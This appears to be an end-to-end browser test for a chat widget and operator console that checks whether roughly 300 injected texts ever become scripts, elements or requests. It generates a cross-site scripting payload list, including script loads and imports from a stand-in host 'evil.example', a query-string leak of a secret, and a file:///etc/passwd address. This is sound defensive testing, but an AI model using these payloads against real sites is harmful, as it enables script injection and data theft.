"""Some 300 texts that want to become markup, scripts or requests, wherever a text can stand."""

from itertools import product
from typing import Any

from playwright.sync_api import Browser, Page, expect

from tests.e2e.browsing import WIDE, PageTenant
from tests.e2e.console_visit import link, operator
from tests.e2e.server_process import within
from tests.e2e.widget_site import allow, site, visit

_TAGS = (
    "img src=x,svg,video src=x,audio src=x,body,iframe,input autofocus,details open,marquee,"
    "object data=x,math,a href=x,button,form,select autofocus"
).split(",")
_EVENTS = "onerror onload onfocus ontoggle onmouseover onanimationstart".split()
_BREAKS = ("", '">', "'>", "</p>", "]]>", "-->", "</title>", "</textarea>")
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<script type=module>import('//evil.example/x.js')</script>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/x",
    "https://evil.example/?q=secret",
    "\\\\evil.example\\x",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
)
_FORMS = (
    "[a]({})", "![a]({})", "<{}>", '<a href="{}">a</a>', '<img src="{}">', "[a][1]\n[1]: {}",
    '<link rel=prefetch href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<style>@import "{}";</style>', '<div style="background:url({})">', '<base href="{}">',
    '<form action="{}"><button>', '<svg><use href="{}"/></svg>', '<object data="{}">',
    '<iframe srcdoc="<img src={}>">', '<embed src="{}">',
)  # fmt: skip
_ENCODED = (
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "%3Cscript%3Ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)", "\u202e<script>",
)  # fmt: skip
PAYLOADS = [
    *(f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
    *(opening + script for opening, script in product(_BREAKS, _SCRIPTS)),
    *(form.replace("{}", address) for form, address in product(_FORMS, _ADDRESSES)),
    *_ENCODED,
]
# Elements that load or run, handlers, and addresses; a link that a person may tap is none of them
# as long as it is one of the web, in a tab of its own that knows nothing of ours.
_TAKEN = """() => [...document.querySelectorAll('*')].flatMap((e) => [
    ...(/^(script|iframe|object|embed|base|meta|link|style)$/i.test(e.tagName) &&
        !(e.src || e.href || '').startsWith(location.origin + '/web/') ? [e.outerHTML] : []),
    ...[...e.attributes].filter((a) => /^on|^srcdoc$|^action$/i.test(a.name) ||
        (a.name === 'style' && /url/i.test(a.value)) ||
        (a.name === 'src' && !e.src.startsWith(location.origin)) ||
        (a.name === 'href' && /evil|script:|data:|file:/i.test(a.value) &&
            !(e.protocol === 'https:' && /noopener/.test(e.rel) && e.target === '_blank')))
        .map((a) => `${e.tagName} ${a.name}=${a.value}`)])"""


def _batches() -> list[str]:
    """All of them as few messages as a message's length allows."""
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) > 6_000:
            texts.append("")
        texts[-1] += payload + "\n"
    return texts


def _elements(page: Any) -> set[str]:
    return set(page.evaluate(_TAKEN))


def _spread(tenant: PageTenant) -> None:
    """Put them where operators meet texts of others: documents, canned answers, names, notes."""
    assistant = tenant.call("GET", f"/v1/assistants/{tenant.assistant_id}")
    base = f"/v1/knowledge-bases/{assistant['knowledge_base_ids'][0]}"
    tenant.call("PATCH", base, {"name": PAYLOADS[0]})
    for number, text in enumerate(_batches()):
        tenant.call("POST", f"{base}/documents", {"title": text[:200], "text": text})
        canned = {"shortcut": f"{number} {PAYLOADS[number]}", "text": text}
        tenant.call("POST", "/v1/canned-answers", canned)
    look = {"greeting": PAYLOADS[0], "launcher": "", "suggestions": PAYLOADS[90:94]}
    persona = {"name": PAYLOADS[100], "instructions": _batches()[0][:4_000]}
    change = {"widget": look, "persona": persona, "name": PAYLOADS[95]}
    tenant.call("PATCH", f"/v1/assistants/{tenant.assistant_id}", change)


def test_no_text_becomes_a_script_an_element_or_a_request(
    browser: Browser, page_tenant: PageTenant
) -> None:
    assert len(PAYLOADS) >= 300
    _spread(page_tenant)
    with site(page_tenant.url, page_tenant.assistant_id) as where:
        allow(page_tenant, where)
        with visit(browser, page_tenant.url, where, WIDE) as here:
            here.open()
            [frame] = [f for f in here.page.frames if "/widget/" in f.url]
            before = _elements(frame)
            for number, text in enumerate(_batches(), 1):
                here.say(text)
                here.expect_lines("contact", number)
            waiting = "/v1/handoffs?status=waiting"  # it looks unsafe: a person is asked
            assert within(90, lambda: page_tenant.call("GET", waiting)["data"] != [])
            [handoff] = page_tenant.call("GET", waiting)["data"]
            path = f"/v1/handoffs/{handoff['handoff_id']}/messages"
            for number, text in enumerate(_batches(), 1):
                page_tenant.call("POST", path, {"text": text})
                here.expect_lines("operator", number)
            expect(here.chat.locator(".log")).to_contain_text(PAYLOADS[0])
            assert _elements(frame) == before
    talk = f"/v1/conversations/{handoff['conversation_id']}"
    page_tenant.call("POST", f"{talk}/notes", {"text": _batches()[0]})
    with operator(browser, link(page_tenant)) as page:
        page.on("dialog", lambda dialog: dialog.accept())
        _look_around(page, page_tenant, handoff)


def _look_around(page: Page, tenant: PageTenant, handoff: Any) -> None:
    before = _elements(page)
    for path, words in (
        (f"inbox/{handoff['handoff_id']}", PAYLOADS[0]),
        (f"conversations/{handoff['conversation_id']}", PAYLOADS[0]),
        ("knowledge", "passages"),
        ("settings/canned", "onerror"),
        (f"assistants/{tenant.assistant_id}", PAYLOADS[95]),
    ):
        page.goto(f"{tenant.url}/console/{path}")
        expect(page.locator("#root")).to_contain_text(words)
        assert _elements(page) == before, path
